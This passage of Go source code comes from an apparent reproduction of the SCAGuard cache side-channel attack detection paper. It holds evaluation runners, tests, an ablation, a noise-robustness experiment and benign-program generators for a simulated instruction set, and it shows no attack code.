					task, name, byTask[task][name].Scores.F1, sg.Scores.F1)
			}
		}
	}
	// 3. SCADET detects nothing when PP is unknown (E3-1) and remains
	// weak overall: its recall never beats SCAGuard's.
	for task, rs := range byTask {
		if rs["SCADET"].Scores.Recall > rs["SCAGUARD"].Scores.Recall {
			t.Errorf("%s: SCADET recall above SCAGuard", task)
		}
	}
	out := FormatTableVI(results)
	for _, want := range []string{"E1", "E4", "SCAGUARD", "SCADET"} {
		if !strings.Contains(out, want) {
			t.Errorf("format missing %s:\n%s", want, out)
		}
	}
}

func TestFig5Shape(t *testing.T) {
	cfg := smallConfig()
	points, err := Fig5(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(points) < 10 {
		t.Fatalf("points = %d", len(points))
	}
	// The paper's claim: a plateau of thresholds where P, R and F1 all
	// exceed 90%, containing the 45% operating point.
	lo, hi, ok := PlateauRange(points, 0.80)
	if !ok {
		t.Fatal("no threshold reaches the 80% floor")
	}
	if lo > 0.45 || hi < 0.45 {
		t.Errorf("plateau [%.0f%%, %.0f%%] does not contain 45%%", lo*100, hi*100)
	}
	// Extremes degrade: recall collapses at very high thresholds.
	last := points[len(points)-1]
	if last.Scores.Recall > points[len(points)/2].Scores.Recall {
		t.Error("recall should fall at extreme thresholds")
	}
	out := FormatFig5(points)
	if !strings.Contains(out, "Threshold") {
		t.Errorf("format:\n%s", out)
	}
}

func TestConfigDefaults(t *testing.T) {
	var c Config
	d := c.withDefaults()
	if d.PerClass == 0 || d.Folds <= 1 || d.Threshold == 0 || d.MaxRetired == 0 {
		t.Errorf("defaults not applied: %+v", d)
	}
}
