package experiments

import (
	"fmt"
	"strings"

	"repro/internal/attacks"
	"repro/internal/isa"
	"repro/internal/metrics"
)

// NoiseTenant builds a cache-hungry co-tenant: an endless streaming loop
// over a 64 KiB buffer that thrashes many LLC sets. Its code and data
// live away from every corpus program so it can run as a third process.
func NoiseTenant() *isa.Program {
	const (
		codeBase = 0xa0_0000
		dataBase = 0x4800_0000
		bufWords = 8192 // 64 KiB
	)
	b := isa.NewBuilder("noise-tenant", codeBase)
	b.SetDataBase(dataBase)
	buf := b.Bytes("noise", bufWords*8, false)
	b.Mov(isa.R(isa.R0), isa.Imm(0))
	b.Label("sweep").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(buf))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Add(isa.R(isa.R2), isa.Imm(1)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Add(isa.R(isa.R0), isa.Imm(8)). // one line per step
		And(isa.R(isa.R0), isa.Imm(bufWords-1)).
		Jmp("sweep")
	return b.MustBuild()
}

// NoiseRow is one condition of the noise-robustness experiment.
type NoiseRow struct {
	Name   string
	Scores metrics.Scores
}

// NoiseRobustness measures SCAGuard's E1 classification with and without
// a cache-thrashing third process sharing the machine. The repository is
// modeled under clean lab conditions either way — the realistic split: a
// defender builds models offline but observes targets on a busy host.
func NoiseRobustness(config Config) ([]NoiseRow, error) {
	config = config.withDefaults()
	repo, err := buildRepo(attacks.Families(), config)
	if err != nil {
		return nil, err
	}
	conditions := []struct {
		name  string
		noise *isa.Program
	}{
		{"clean host", nil},
		{"noisy co-tenant", NoiseTenant()},
	}
	var out []NoiseRow
	for _, cond := range conditions {
		cfg := config
		cfg.Noise = cond.noise
		corpus, err := prepareE1Corpus(cfg)
		if err != nil {
			return nil, fmt.Errorf("noise %q: %w", cond.name, err)
		}
		conf := metrics.NewConfusion()
		for _, p := range corpus {
			pred := classifySCAGuard(repo, p, cfg.Threshold)
			conf.Add(string(p.Label), string(pred))
		}
		out = append(out, NoiseRow{Name: cond.name, Scores: conf.Macro()})
	}
	return out, nil
}

// FormatNoise renders the rows.
func FormatNoise(rows []NoiseRow) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-18s %10s %10s %10s\n", "Condition", "Precision", "Recall", "F1-score")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-18s %9.2f%% %9.2f%% %9.2f%%\n",
			r.Name, r.Scores.Precision*100, r.Scores.Recall*100, r.Scores.F1*100)
	}
	return b.String()
}
