package experiments

import (
	"fmt"
	"strings"
	"time"

	"repro/internal/attacks"
	"repro/internal/baseline"
	"repro/internal/cache"
	"repro/internal/exec"
	"repro/internal/model"
	"repro/internal/similarity"
)

// TimeCost reproduces the Section V time-cost discussion: it breaks one
// SCAGuard detection into its stages and measures the per-sample cost of
// every approach over a small target set.
type TimeCost struct {
	// Stage breakdown of one SCAGuard detection (seconds).
	Collection float64 // trace collection (the simulator run)
	Modeling   float64 // CFG + relevance + Algorithm 1 + CST measurement
	Comparison float64 // DTW against the whole repository
	// Per-approach mean detection seconds over the target panel.
	PerApproach map[string]float64
	// Samples is the panel size.
	Samples int
}

// MeasureTimeCost runs the breakdown over every canonical PoC.
func MeasureTimeCost(config Config) (*TimeCost, error) {
	config = config.withDefaults()
	repo, err := buildRepo(attacks.Families(), config)
	if err != nil {
		return nil, err
	}
	llc := config.Model.Exec.Hierarchy.LLC
	if llc.Sets == 0 {
		llc = cache.DefaultHierarchyConfig().LLC
	}
	scadet := baseline.NewSCADET()

	tc := &TimeCost{PerApproach: make(map[string]float64)}
	pocs := attacks.All(attacks.DefaultParams())
	tc.Samples = len(pocs)
	var scadetTotal, mlTotal float64
	for _, poc := range pocs {
		// Stage 1: collection.
		start := time.Now()
		execCfg := config.Model.Exec
		execCfg.MaxRetired = config.MaxRetired
		machine, err := exec.NewMachine(execCfg, poc.Program, poc.Victim)
		if err != nil {
			return nil, err
		}
		tr := machine.Run()
		tc.Collection += time.Since(start).Seconds()

		// Stage 2: modeling.
		start = time.Now()
		m, err := model.BuildFromTrace(poc.Program, tr, llc, config.Model)
		if err != nil {
			return nil, err
		}
		tc.Modeling += time.Since(start).Seconds()

		// Stage 3: comparison against the repository.
		start = time.Now()
		for _, e := range repo.Entries {
			similarity.Score(m.BBS, e.BBS, similarity.DefaultOptions())
		}
		tc.Comparison += time.Since(start).Seconds()

		// Baselines over the shared trace.
		start = time.Now()
		scadet.Detect(tr, poc.Program)
		scadetTotal += time.Since(start).Seconds()

		start = time.Now()
		baseline.WindowFeatures(tr)
		baseline.LoopFeatures(tr)
		mlTotal += time.Since(start).Seconds()
	}
	n := float64(tc.Samples)
	tc.Collection /= n
	tc.Modeling /= n
	tc.Comparison /= n
	tc.PerApproach["SCAGUARD"] = tc.Collection + tc.Modeling + tc.Comparison
	tc.PerApproach["SCADET"] = tc.Collection + scadetTotal/n
	tc.PerApproach["NW/MLFM feature extraction"] = tc.Collection + mlTotal/n
	return tc, nil
}

// Format renders the breakdown like the Section V discussion.
func (tc *TimeCost) Format() string {
	var b strings.Builder
	total := tc.Collection + tc.Modeling + tc.Comparison
	fmt.Fprintf(&b, "SCAGuard per-sample detection cost (mean over %d PoCs):\n", tc.Samples)
	fmt.Fprintf(&b, "  collection:  %8.4fs (%5.1f%%)\n", tc.Collection, pct(tc.Collection, total))
	fmt.Fprintf(&b, "  modeling:    %8.4fs (%5.1f%%)\n", tc.Modeling, pct(tc.Modeling, total))
	fmt.Fprintf(&b, "  comparison:  %8.4fs (%5.1f%%)\n", tc.Comparison, pct(tc.Comparison, total))
	fmt.Fprintf(&b, "per-approach totals:\n")
	for _, name := range []string{"SCAGUARD", "SCADET", "NW/MLFM feature extraction"} {
		fmt.Fprintf(&b, "  %-28s %8.4fs\n", name, tc.PerApproach[name])
	}
	return b.String()
}

func pct(part, total float64) float64 {
	if total == 0 {
		return 0
	}
	return part / total * 100
}
