package experiments

import (
	"fmt"
	"strings"

	"repro/internal/attacks"
	"repro/internal/model"
)

// TableIVRow is one row of Table IV: how well the pipeline identifies
// the manually identified (builder-marked) attack-relevant blocks of a
// family's canonical PoCs.
type TableIVRow struct {
	Family   string
	BB       int     // total basic blocks (#BB)
	TAB      int     // ground-truth attack-relevant blocks (#TAB)
	IAB      int     // blocks identified by the pipeline (#IAB)
	ITAB     int     // ground-truth blocks among the identified (#ITAB)
	Accuracy float64 // ITAB / TAB
}

// TableIV runs attack-relevant BB identification over every canonical
// PoC, aggregated per family, plus an average row.
func TableIV(config Config) ([]TableIVRow, error) {
	config = config.withDefaults()
	var rows []TableIVRow
	var total TableIVRow
	for _, fam := range attacks.Families() {
		row := TableIVRow{Family: string(fam)}
		for _, poc := range attacks.OfFamily(fam, attacks.DefaultParams()) {
			m, err := model.Build(poc.Program, poc.Victim, config.Model)
			if err != nil {
				return nil, fmt.Errorf("table iv: %s: %w", poc.Name, err)
			}
			c := m.CFG
			truth := make(map[uint64]bool)
			for _, l := range c.GroundTruthAttackBlocks() {
				truth[l] = true
			}
			identified := m.IdentifiedBBs()
			itab := 0
			for _, l := range identified {
				if truth[l] {
					itab++
				}
			}
			row.BB += c.NumBlocks()
			row.TAB += len(truth)
			row.IAB += len(identified)
			row.ITAB += itab
		}
		if row.TAB > 0 {
			row.Accuracy = float64(row.ITAB) / float64(row.TAB)
		}
		total.BB += row.BB
		total.TAB += row.TAB
		total.IAB += row.IAB
		total.ITAB += row.ITAB
		rows = append(rows, row)
	}
	total.Family = "Avg."
	if total.TAB > 0 {
		total.Accuracy = float64(total.ITAB) / float64(total.TAB)
	}
	rows = append(rows, total)
	return rows, nil
}

// FormatTableIV renders the rows like the paper's Table IV.
func FormatTableIV(rows []TableIVRow) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-8s %8s %8s %8s %8s %10s\n", "Attack", "#BB", "#TAB", "#IAB", "#ITAB", "Accuracy")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-8s %8d %8d %8d %8d %9.2f%%\n",
			r.Family, r.BB, r.TAB, r.IAB, r.ITAB, r.Accuracy*100)
	}
	return b.String()
}

// ReductionStats reports how much the pipeline shrinks the block count
// (the summary claim of Section IV-B).
func ReductionStats(rows []TableIVRow) (totalBB, totalIAB int, ratio float64) {
	for _, r := range rows {
		if r.Family == "Avg." {
			continue
		}
		totalBB += r.BB
		totalIAB += r.IAB
	}
	if totalBB > 0 {
		ratio = 1 - float64(totalIAB)/float64(totalBB)
	}
	return totalBB, totalIAB, ratio
}
