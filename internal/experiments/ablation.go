package experiments

import (
	"fmt"
	"strings"

	"repro/internal/attacks"
	"repro/internal/dataset"
	"repro/internal/detect"
	"repro/internal/metrics"
	"repro/internal/similarity"
)

// AblationRow reports E1-style classification quality under one
// similarity configuration, isolating a design choice of DESIGN.md §5.
type AblationRow struct {
	Name   string
	Scores metrics.Scores
}

// Ablation re-runs SCAGuard's E1 classification under variant similarity
// configurations: the full design, syntax only (no CST term), cache
// semantics only (no IS term), and no DTW band.
func Ablation(config Config) ([]AblationRow, error) {
	config = config.withDefaults()
	corpus, err := prepareE1Corpus(config)
	if err != nil {
		return nil, err
	}
	repo, err := buildRepo(attacks.Families(), config)
	if err != nil {
		return nil, err
	}
	variants := []struct {
		name string
		opts similarity.Options
	}{
		{"full", similarity.DefaultOptions()},
		{"no-CST (syntax only)", similarity.Options{ISWeight: 1, CSPWeight: 1e-9, Window: similarity.DefaultOptions().Window}},
		{"no-IS (semantics only)", similarity.Options{ISWeight: 1e-9, CSPWeight: 1, Window: similarity.DefaultOptions().Window}},
		{"no-band (full warping)", similarity.Options{ISWeight: 0.5, CSPWeight: 0.5}},
	}
	var out []AblationRow
	for _, v := range variants {
		conf := metrics.NewConfusion()
		for _, p := range corpus {
			pred := classifyWithOpts(repo, p, config.Threshold, v.opts)
			conf.Add(string(p.Label), string(pred))
		}
		out = append(out, AblationRow{Name: v.name, Scores: conf.Macro()})
	}
	return out, nil
}

func prepareE1Corpus(config Config) ([]*Prepared, error) {
	ds, err := dataset.Standard(dataset.Config{PerClass: config.PerClass, Seed: config.Seed})
	if err != nil {
		return nil, err
	}
	return prepare(ds.Samples, config)
}

func classifyWithOpts(repo *detect.Repository, p *Prepared, threshold float64, opts similarity.Options) attacks.Family {
	best := attacks.FamilyBenign
	bestScore := 0.0
	if p.BBS.Len() < detect.MinModelLen || p.BBS.TimerReads == 0 {
		return best
	}
	for _, e := range repo.Entries {
		if s := similarity.Score(p.BBS, e.BBS, opts); s > bestScore {
			bestScore, best = s, e.Family
		}
	}
	if bestScore < threshold {
		return attacks.FamilyBenign
	}
	return best
}

// FormatAblation renders the ablation table.
func FormatAblation(rows []AblationRow) string {
	var b strings.Builder
	fmt.Fprintf(&b, "%-26s %10s %10s %10s\n", "Configuration", "Precision", "Recall", "F1-score")
	for _, r := range rows {
		fmt.Fprintf(&b, "%-26s %9.2f%% %9.2f%% %9.2f%%\n",
			r.Name, r.Scores.Precision*100, r.Scores.Recall*100, r.Scores.F1*100)
	}
	return b.String()
}
