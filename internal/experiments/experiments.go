// Package experiments reproduces every table and figure of the paper's
// evaluation (Section IV): Table IV (attack-relevant BB identification),
// Table V (similarity of five scenarios), Table VI (classification
// results of SCAGuard and the four baselines on tasks E1-E4) and Fig. 5
// (threshold sweep). Each runner is deterministic under its Config.
package experiments

import (
	"fmt"
	"time"

	"repro/internal/attacks"
	"repro/internal/baseline"
	"repro/internal/cache"
	"repro/internal/dataset"
	"repro/internal/detect"
	"repro/internal/exec"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/similarity"
)

// Config scales and seeds the experiments.
type Config struct {
	// PerClass is the number of samples per class (the paper uses 400;
	// tests and quick benchmarks use far less).
	PerClass int
	// Seed drives dataset generation.
	Seed int64
	// Folds is the cross-validation fold count for the learners
	// (paper: 10).
	Folds int
	// Model configures SCAGuard's behavior modeling.
	Model model.Config
	// Threshold is SCAGuard's similarity threshold.
	Threshold float64
	// MaxRetired caps each sample's simulation.
	MaxRetired uint64
	// Noise, when set, runs as an additional co-tenant process beside
	// every target during collection (the noise-robustness experiment);
	// repository models are always built without it.
	Noise *isa.Program
}

// DefaultConfig returns a laptop-scale configuration; raise PerClass to
// 400 for the paper-scale run.
func DefaultConfig() Config {
	return Config{
		PerClass:   24,
		Seed:       1,
		Folds:      10,
		Model:      model.DefaultConfig(),
		Threshold:  detect.DefaultThreshold,
		MaxRetired: 400_000,
	}
}

func (c Config) withDefaults() Config {
	d := DefaultConfig()
	if c.PerClass <= 0 {
		c.PerClass = d.PerClass
	}
	if c.Folds <= 1 {
		c.Folds = d.Folds
	}
	if c.Threshold == 0 {
		c.Threshold = d.Threshold
	}
	if c.MaxRetired == 0 {
		c.MaxRetired = d.MaxRetired
	}
	if c.Model.MaxWeight == 0 {
		c.Model = model.DefaultConfig()
	}
	return c
}

// Prepared is one corpus sample with everything the approaches consume:
// the shared execution trace, SCAGuard's behavior model and the
// baselines' feature vectors.
type Prepared struct {
	dataset.Sample
	Trace    *exec.Trace
	BBS      *model.CSTBBS
	WinFeat  []float64
	LoopFeat []float64
	// PrepSeconds is the wall-clock cost of collection + modeling,
	// feeding the time-cost discussion of Section V.
	PrepSeconds float64
}

// prepare runs every sample once and extracts all artefacts.
func prepare(samples []dataset.Sample, cfg Config) ([]*Prepared, error) {
	llc := cfg.Model.Exec.Hierarchy.LLC
	if llc.Sets == 0 {
		llc = cache.DefaultHierarchyConfig().LLC
	}
	out := make([]*Prepared, 0, len(samples))
	for _, s := range samples {
		start := time.Now()
		execCfg := cfg.Model.Exec
		execCfg.MaxRetired = cfg.MaxRetired
		var others []*isa.Program
		if s.Victim != nil {
			others = append(others, s.Victim)
		}
		if cfg.Noise != nil {
			others = append(others, cfg.Noise)
		}
		machine, err := exec.NewMachineMulti(execCfg, s.Program, others...)
		if err != nil {
			return nil, fmt.Errorf("experiments: %s: %w", s.Name, err)
		}
		tr := machine.Run()
		m, err := model.BuildFromTrace(s.Program, tr, llc, cfg.Model)
		if err != nil {
			return nil, fmt.Errorf("experiments: %s: %w", s.Name, err)
		}
		out = append(out, &Prepared{
			Sample:      s,
			Trace:       tr,
			BBS:         m.BBS,
			WinFeat:     baseline.WindowFeatures(tr),
			LoopFeat:    baseline.LoopFeatures(tr),
			PrepSeconds: time.Since(start).Seconds(),
		})
	}
	return out, nil
}

// buildRepo models one canonical PoC per known family — the paper's
// "only one PoC for each attack type" deployment.
func buildRepo(known []attacks.Family, cfg Config) (*detect.Repository, error) {
	repoPoC := map[attacks.Family]string{
		attacks.FamilyFR:  "FR-IAIK",
		attacks.FamilyPP:  "PP-IAIK",
		attacks.FamilySFR: "S-FR-Idea",
		attacks.FamilySPP: "S-PP-Trippel",
	}
	var pocs []attacks.PoC
	for _, fam := range known {
		name, ok := repoPoC[fam]
		if !ok {
			return nil, fmt.Errorf("experiments: no canonical PoC for family %q", fam)
		}
		poc, err := attacks.ByName(name, attacks.DefaultParams())
		if err != nil {
			return nil, err
		}
		pocs = append(pocs, poc)
	}
	return detect.BuildRepository(pocs, cfg.Model)
}

// classifySCAGuard scores one prepared sample against a repository.
func classifySCAGuard(repo *detect.Repository, p *Prepared, threshold float64) attacks.Family {
	d := detect.NewDetector(repo)
	d.Threshold = threshold
	d.SimOpts = similarity.DefaultOptions()
	return d.ClassifyBBS(p.BBS).Predicted
}
