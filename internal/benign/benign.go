// Package benign generates the benign program corpus of Table III of
// the paper: SPEC2006-like compute/memory workloads, LeetCode-style
// algorithm kernels, table-based cryptosystems and server-application
// request loops. The four families deliberately span the spectrum of
// memory-access intensity — including crypto kernels whose
// secret-dependent table lookups generate heavy, attack-like cache
// activity — because that diversity is what makes the benign side of the
// evaluation meaningful.
//
// Every generator is a pure function of its Spec, so the corpus is
// reproducible; the seed feeds both embedded data and size parameters.
package benign

import (
	"fmt"
	"math/rand"
	"sort"

	"repro/internal/isa"
)

// Kind names one of the Table III benign families.
type Kind string

// The four benign families.
const (
	KindSpec     Kind = "spec2006"
	KindLeetcode Kind = "leetcode"
	KindCrypto   Kind = "crypto"
	KindServer   Kind = "server"
)

// Kinds lists the families in canonical order.
func Kinds() []Kind {
	return []Kind{KindSpec, KindLeetcode, KindCrypto, KindServer}
}

// Spec selects a template of a family plus a generation seed.
type Spec struct {
	Kind     Kind
	Template string
	Seed     int64
}

// Name returns the canonical program name for a spec.
func (s Spec) Name() string {
	return fmt.Sprintf("%s-%s-%d", s.Kind, s.Template, s.Seed)
}

type generator func(name string, rng *rand.Rand) *isa.Program

var templates = map[Kind]map[string]generator{
	KindLeetcode: {
		"two-sum":       genTwoSum,
		"binary-search": genBinarySearch,
		"bubble-sort":   genBubbleSort,
		"fib-dp":        genFibDP,
		"kadane":        genKadane,
		"reverse":       genReverse,
		"count-bits":    genCountBits,
		"gcd":           genGCD,
		"prefix-sum":    genPrefixSum,
		"matrix-mul":    genMatrixMul,
		"merge-sorted":  genMergeSorted,
		"valid-parens":  genValidParens,
		"climb-stairs":  genClimbStairs,
		"rotate-array":  genRotateArray,
		"majority-vote": genMajorityVote,
		"hash-join":     genHashJoin,
	},
	KindSpec: {
		"stream":     genStream,
		"pointer":    genPointerChase,
		"stride":     genStride,
		"histogram":  genHistogram,
		"stencil":    genStencil,
		"matvec":     genMatVec,
		"randxor":    genRandXor,
		"hotloop":    genHotLoop,
		"writeburst": genWriteBurst,
		"mixed":      genMixed,
		"reduction":  genReduction,
		"copyloop":   genCopyLoop,
	},
	KindCrypto: {
		"aes-ttable": genAESTTable,
		"rsa-sqmul":  genRSASquareMultiply,
		"rc4-stream": genRC4,
		"sha-mix":    genSHAMix,
		"des-perm":   genDESPerm,
		"chacha-arx": genChaChaARX,
	},
	KindServer: {
		"sqlite-btree": genBTreeSearch,
		"openssh-kex":  genKexMix,
		"openssl-hmac": genHMACLoop,
		"vsftpd-cmd":   genCommandParse,
		"thttpd-serve": genHTTPServe,
		"gzip-deflate": genDeflateScan,
		"openvpn-tun":  genTunnelLoop,
		"openntpd-ts":  genTimestampLoop,
	},
}

// Templates lists the template names of a family, sorted.
func Templates(kind Kind) []string {
	m := templates[kind]
	out := make([]string, 0, len(m))
	for name := range m {
		out = append(out, name)
	}
	sort.Strings(out)
	return out
}

// Generate builds the program selected by spec.
func Generate(spec Spec) (*isa.Program, error) {
	m, ok := templates[spec.Kind]
	if !ok {
		return nil, fmt.Errorf("benign: unknown kind %q", spec.Kind)
	}
	gen, ok := m[spec.Template]
	if !ok {
		return nil, fmt.Errorf("benign: unknown template %q of kind %q", spec.Template, spec.Kind)
	}
	rng := rand.New(rand.NewSource(spec.Seed))
	p := gen(spec.Name(), rng)
	if err := p.Validate(); err != nil {
		return nil, fmt.Errorf("benign: %s: %w", spec.Name(), err)
	}
	return p, nil
}

// MustGenerate panics on error; for tests and static corpora.
func MustGenerate(spec Spec) *isa.Program {
	p, err := Generate(spec)
	if err != nil {
		panic(err)
	}
	return p
}

// Random draws a template of the given kind with a derived seed.
func Random(kind Kind, rng *rand.Rand) (*isa.Program, error) {
	ts := Templates(kind)
	if len(ts) == 0 {
		return nil, fmt.Errorf("benign: unknown kind %q", kind)
	}
	return Generate(Spec{Kind: kind, Template: ts[rng.Intn(len(ts))], Seed: rng.Int63()})
}

// randWords produces n little-endian 64-bit words of random data.
func randWords(rng *rand.Rand, n int, max int64) []byte {
	out := make([]byte, n*8)
	for i := 0; i < n; i++ {
		v := uint64(rng.Int63n(max))
		for j := 0; j < 8; j++ {
			out[i*8+j] = byte(v >> (8 * j))
		}
	}
	return out
}

// sortedWords produces n sorted words for binary-search-style kernels.
func sortedWords(rng *rand.Rand, n int) []byte {
	vals := make([]int64, n)
	cur := int64(0)
	for i := range vals {
		cur += 1 + rng.Int63n(9)
		vals[i] = cur
	}
	out := make([]byte, n*8)
	for i, v := range vals {
		for j := 0; j < 8; j++ {
			out[i*8+j] = byte(uint64(v) >> (8 * j))
		}
	}
	return out
}
