package benign

import (
	"math/rand"

	"repro/internal/isa"
)

// Additional LeetCode-style kernels, enriching the Table III corpus
// toward the paper's 230-solution diversity.

// genMergeSorted: merge two sorted arrays into a third.
func genMergeSorted(name string, rng *rand.Rand) *isa.Program {
	n := 24 + rng.Intn(24)
	b := isa.NewBuilder(name, benignCodeBase)
	a1 := b.DataInit("a1", uint64(n*8), sortedWords(rng, n), false)
	a2 := b.DataInit("a2", uint64(n*8), sortedWords(rng, n), false)
	out := b.Bytes("out", uint64(2*n*8), false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)). // i
						Mov(isa.R(isa.R1), isa.Imm(0)). // j
						Mov(isa.R(isa.R2), isa.Imm(0))  // k
	b.Label("merge").
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jge("drain2").
		Cmp(isa.R(isa.R1), isa.Imm(int64(n))).
		Jge("drain1").
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(a1))).
		Mov(isa.R(isa.R4), isa.Mem(isa.R3, 0)).
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(a2))).
		Mov(isa.R(isa.R6), isa.Mem(isa.R5, 0)).
		Cmp(isa.R(isa.R4), isa.R(isa.R6)).
		Jg("take2").
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(out))).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R4)).
		Inc(isa.R(isa.R0)).
		Jmp("next").
		Label("take2").
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(out))).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R6)).
		Inc(isa.R(isa.R1)).
		Label("next").
		Inc(isa.R(isa.R2)).
		Jmp("merge")
	// Drain the remainder of one array.
	b.Label("drain1").
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jge("done").
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(a1))).
		Mov(isa.R(isa.R4), isa.Mem(isa.R3, 0)).
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(out))).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R4)).
		Inc(isa.R(isa.R0)).
		Inc(isa.R(isa.R2)).
		Jmp("drain1")
	b.Label("drain2").
		Cmp(isa.R(isa.R1), isa.Imm(int64(n))).
		Jge("done").
		Lea(isa.R5, isa.MemIdx(isa.RegNone, isa.R1, 8, int64(a2))).
		Mov(isa.R(isa.R6), isa.Mem(isa.R5, 0)).
		Lea(isa.R7, isa.MemIdx(isa.RegNone, isa.R2, 8, int64(out))).
		Mov(isa.Mem(isa.R7, 0), isa.R(isa.R6)).
		Inc(isa.R(isa.R1)).
		Inc(isa.R(isa.R2)).
		Jmp("drain2")
	b.Label("done").Hlt()
	return b.MustBuild()
}

// genValidParens: stack-based bracket matching over a random sequence.
func genValidParens(name string, rng *rand.Rand) *isa.Program {
	n := 32 + rng.Intn(32)
	seq := make([]byte, n*8)
	for i := 0; i < n; i++ {
		seq[i*8] = byte(rng.Intn(2)) // 0 = open, 1 = close
	}
	b := isa.NewBuilder(name, benignCodeBase)
	input := b.DataInit("input", uint64(n*8), seq, false)
	verdict := b.Bytes("verdict", 8, false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)). // index
						Mov(isa.R(isa.R1), isa.Imm(0)). // depth (the "stack")
						Mov(isa.R(isa.R4), isa.Imm(0))  // violation flag
	b.Label("scan").
		Lea(isa.R2, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(input))).
		Mov(isa.R(isa.R3), isa.Mem(isa.R2, 0)).
		Test(isa.R(isa.R3), isa.R(isa.R3)).
		Jne("close").
		Inc(isa.R(isa.R1)).
		Jmp("step").
		Label("close").
		Dec(isa.R(isa.R1)).
		Cmp(isa.R(isa.R1), isa.Imm(0)).
		Jge("step").
		Mov(isa.R(isa.R4), isa.Imm(1)). // went negative: invalid, keep scanning
		Label("step").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jl("scan").
		Or(isa.R(isa.R4), isa.R(isa.R1)). // nonzero depth or violation -> invalid
		Test(isa.R(isa.R4), isa.R(isa.R4)).
		Jne("invalid").
		Mov(isa.Mem(isa.RegNone, int64(verdict)), isa.Imm(1)).
		Jmp("end").
		Label("invalid").
		Mov(isa.Mem(isa.RegNone, int64(verdict)), isa.Imm(0)).
		Label("end").
		Hlt()
	return b.MustBuild()
}

// genClimbStairs: DP over ways to climb n stairs with memo table.
func genClimbStairs(name string, rng *rand.Rand) *isa.Program {
	n := 30 + rng.Intn(30)
	b := isa.NewBuilder(name, benignCodeBase)
	memo := b.Bytes("memo", uint64((n+2)*8), false)

	b.Mov(isa.Mem(isa.RegNone, int64(memo)), isa.Imm(1)).
		Mov(isa.Mem(isa.RegNone, int64(memo+8)), isa.Imm(1)).
		Mov(isa.R(isa.R0), isa.Imm(2))
	b.Label("dp").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(memo))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, -8)).
		Add(isa.R(isa.R2), isa.Mem(isa.R1, -16)).
		And(isa.R(isa.R2), isa.Imm(0xFFFFFFF)). // keep it bounded
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(int64(n))).
		Jle("dp").
		Hlt()
	return b.MustBuild()
}

// genRotateArray: rotate by k via triple reversal.
func genRotateArray(name string, rng *rand.Rand) *isa.Program {
	n := 32 + rng.Intn(32)
	k := 1 + rng.Intn(n-1)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 1<<20), false)

	// reverse(lo, hi) subroutine: R0=lo addr, R1=hi addr.
	b.Entry("main")
	b.Label("reverse").
		Label("rloop").
		Cmp(isa.R(isa.R0), isa.R(isa.R1)).
		Jge("rdone").
		Mov(isa.R(isa.R2), isa.Mem(isa.R0, 0)).
		Mov(isa.R(isa.R3), isa.Mem(isa.R1, 0)).
		Mov(isa.Mem(isa.R0, 0), isa.R(isa.R3)).
		Mov(isa.Mem(isa.R1, 0), isa.R(isa.R2)).
		Add(isa.R(isa.R0), isa.Imm(8)).
		Sub(isa.R(isa.R1), isa.Imm(8)).
		Jmp("rloop").
		Label("rdone").
		Ret()
	b.Label("main")
	// Reverse whole array.
	b.Mov(isa.R(isa.R0), isa.Imm(int64(arr))).
		Mov(isa.R(isa.R1), isa.Imm(int64(arr)+int64((n-1)*8))).
		Call("reverse")
	// Reverse first k.
	b.Mov(isa.R(isa.R0), isa.Imm(int64(arr))).
		Mov(isa.R(isa.R1), isa.Imm(int64(arr)+int64((k-1)*8))).
		Call("reverse")
	// Reverse the rest.
	b.Mov(isa.R(isa.R0), isa.Imm(int64(arr)+int64(k*8))).
		Mov(isa.R(isa.R1), isa.Imm(int64(arr)+int64((n-1)*8))).
		Call("reverse").
		Hlt()
	return b.MustBuild()
}

// genMajorityVote: Boyer-Moore majority element scan.
func genMajorityVote(name string, rng *rand.Rand) *isa.Program {
	n := 48 + rng.Intn(48)
	b := isa.NewBuilder(name, benignCodeBase)
	arr := b.DataInit("arr", uint64(n*8), randWords(rng, n, 4), false)
	out := b.Bytes("out", 8, false)

	b.Mov(isa.R(isa.R0), isa.Imm(0)). // index
						Mov(isa.R(isa.R1), isa.Imm(0)). // candidate
						Mov(isa.R(isa.R2), isa.Imm(0))  // count
	b.Label("vote").
		Lea(isa.R3, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(arr))).
		Mov(isa.R(isa.R4), isa.Mem(isa.R3, 0)).
		Test(isa.R(isa.R2), isa.R(isa.R2)).
		Jne("compare").
		Mov(isa.R(isa.R1), isa.R(isa.R4)).
		Mov(isa.R(isa.R2), isa.Imm(1)).
		Jmp("step").
		Label("compare").
		Cmp(isa.R(isa.R4), isa.R(isa.R1)).
		Jne("down").
		Inc(isa.R(isa.R2)).
		Jmp("step").
		Label("down").
		Dec(isa.R(isa.R2)).
		Label("step").
